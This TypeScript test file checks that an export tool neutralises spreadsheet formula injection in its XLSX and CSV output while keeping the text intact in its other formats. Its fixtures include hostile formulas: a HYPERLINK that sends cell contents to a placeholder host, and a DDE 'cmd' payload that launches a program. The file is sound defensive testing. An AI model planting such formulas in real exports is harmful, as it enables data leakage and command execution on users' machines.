// Cells that begin a formula: never live in a workbook or in the CSV for spreadsheets, as they are in the CSV for programs.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { comparisonSchema } from '../../src/report/json-schema.js';
import { absent, csvCells, markdownText, parseMarkdown, partsOf, sheetsOf, wordText } from './opened.js';
import { named, textOf } from '../report/html/parsed.js';
import { clear, compareAll, markdownPaper, wordPaper, type Forms } from './run.js';

const FORMULAS = [
  '=HYPERLINK("http://voorbeeld.invalid/?x="&A1;"klik")',
  "=cmd|' /C calc'!A0",
  '+31+cmd|x',
  '-2+3',
  '@SUM(1;1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];
const SIGN = /^[=+\-@\t\r\n＝＋－＠]/;

let forms: Forms;
beforeAll(async () => {
  // A file name that begins so is given without a folder before it: -o and the papers stand in one folder.
  forms = await compareAll({
    culture: { name: '=c.docx', content: await wordPaper('culture', FORMULAS) },
    welfare: { name: '@w.docx', content: await wordPaper('welfare', FORMULAS) },
  });
}, 60_000);
afterAll(clear);

/** Cells as a spreadsheet gets them: what stands between the quotation marks. */
const rawCells = (texts: ReadonlyMap<string, string>, delimiter: string): string[] =>
  [...texts.values()].flatMap((text) => parse(text, { bom: true, delimiter }).flat());

it('titles, headings and passages begin so', () => {
  const json = comparisonSchema.parse(JSON.parse(forms.json));
  expect(json.documents.map(({ title }) => title)).toEqual([FORMULAS[0], FORMULAS[0]]);
  for (const formula of FORMULAS)
    expect(json.passages.some(({ text }) => text === `${formula} staat voor het museum.`)).toBe(true);
});

describe('XLSX', () => {
  it('has no formulas: every such cell is a string', async () => {
    const parts = await partsOf(forms.xlsx);
    const sheets = [...parts].filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name));
    expect(sheets).toHaveLength(9);
    for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[ >]|<hyperlink/);
    const cells = [...(await sheetsOf(forms.xlsx)).values()].flat(2);
    for (const formula of FORMULAS) expect(cells).toContain(`${formula} staat voor het museum.`);
  });
});

describe('CSV', () => {
  it('for spreadsheets: an apostrophe before each, and only there', () => {
    const cells = rawCells(forms.csv.nl, ';');
    const live = cells.filter((cell) => SIGN.test(cell) && !/^-?\d+(,\d+)?$/.test(cell));
    expect(live).toEqual([]);
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula} staat voor het museum.`);
  });

  it('for programs: as they are', () => {
    const cells = rawCells(forms.csv.int, ',');
    for (const formula of FORMULAS) expect(cells).toContain(`${formula} staat voor het museum.`);
  });

  it('comes back the same from both', () => {
    const numbers = (cells: readonly string[]): string[] =>
      cells.map((cell) => (/^-?\d+,\d+$/.test(cell) ? cell.replace(',', '.') : cell));
    expect(numbers(csvCells(forms.csv.nl))).toEqual(csvCells(forms.csv.int));
  });
});

it('text formats show them as they are', async () => {
  const texts = [
    named(forms.html, 'main').map(textOf).join(' '),
    markdownText(parseMarkdown(forms.markdown)),
    await wordText(forms.docx),
    forms.terminal.replace(/[│┌┐└┘├┤┬┴┼─]/g, ' '),
  ];
  for (const text of texts) expect(absent(FORMULAS, text)).toEqual([]);
});

it('a Markdown paper gives no other cells than a Word document does', async () => {
  const own = FORMULAS.filter((formula) => /^[=@＝＋－＠]/.test(formula));
  const { csv } = await compareAll({
    culture: { name: 'c.md', content: markdownPaper('culture', own) },
    welfare: { name: 'w.md', content: markdownPaper('welfare', own) },
  });
  const cells = rawCells(csv.nl, ';');
  expect(cells.filter((cell) => SIGN.test(cell) && !/^-?\d+(,\d+)?$/.test(cell))).toEqual([]);
  for (const formula of own) expect(cells.some((cell) => cell.startsWith(`'${formula}`))).toBe(true);
});
